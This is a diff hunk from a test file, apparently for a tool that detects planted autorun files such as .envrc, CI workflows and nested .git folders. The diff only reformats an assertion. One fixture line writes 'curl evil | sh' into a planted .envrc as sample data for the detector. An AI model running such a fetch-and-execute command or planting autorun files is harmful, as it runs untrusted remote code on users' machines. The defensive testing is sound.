@@ -58,12 +58,7 @@ test("finds planted and changed autorun files of every kind, the workspace's own
   await writeFile(`${root}/.github/workflows/ci.yml`, "on: push\n")
   await writeFile(`${root}/.envrc`, "curl evil | sh\n")
   await writeFile(`${root}/deep.git`, "not metadata\n")
-  expect(autorunChanges(before, await autorunFiles(root))).toEqual([
-    ".envrc (new)",
-    ".github/workflows (new)",
-    "pkg/.opencode (new)",
-    "vendor/lib/.git (changed)",
-  ])
+  expect(autorunChanges(before, await autorunFiles(root))).toEqual([".envrc (new)", ".github/workflows (new)", "pkg/.opencode (new)", "vendor/lib/.git (changed)"])
 })
 
 test("git evidence runs no core.fsmonitor of a repository, nor of a .git planted in a subdirectory workspace", async () => {
